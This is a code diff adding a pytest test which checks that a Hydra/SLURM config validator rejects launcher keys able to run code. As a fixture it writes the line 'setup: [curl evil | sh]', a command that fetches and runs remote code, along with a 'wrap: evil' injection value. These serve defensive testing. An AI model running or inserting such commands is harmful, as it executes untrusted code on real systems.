@@ -370,3 +370,23 @@ def test_a_resumed_run_goes_back_to_where_it_was_begun(tmp_path: Path, monkeypat
     (tmp_path / "provenance.json").write_text(json.dumps({"directory": str(tmp_path / "gone")}))
     return_to_directory(tmp_path)
     assert Path.cwd() == tmp_path / "begun"
+
+
+def test_a_cluster_of_ones_own_runs_no_command_of_its_file(tmp_path: Path) -> None:
+    """Partition and time of a launcher are settings; lines of its job's script are not."""
+    cluster = tmp_path / "hydra" / "launcher" / "mine.yaml"
+    cluster.parent.mkdir(parents=True)
+    cluster.write_text("defaults: [submitit_slurm]\npartition: gpu\ntimeout_min: 60\n")
+    experiment = tmp_path / "experiment" / "mine.yaml"
+    experiment.parent.mkdir()
+    experiment.write_text(
+        "# @package _global_\ndefaults: [{override /hydra/launcher: mine}]\nhydra: {launcher: {cpus_per_task: 4}}\n"
+    )
+    refuse_executable_yaml(["--config-dir", str(tmp_path)])
+    experiment.write_text("# @package _global_\nhydra: {launcher: {setup: [curl evil | sh]}}\n")
+    with pytest.raises(ConfigError, match="holds `setup`, which could run code"):
+        refuse_executable_yaml(["--config-dir", str(tmp_path)])
+    experiment.unlink()
+    cluster.write_text("defaults: [submitit_slurm]\nadditional_parameters: {wrap: evil}\n")
+    with pytest.raises(ConfigError, match="holds `additional_parameters`"):
+        refuse_executable_yaml(["--config-dir", str(tmp_path)])
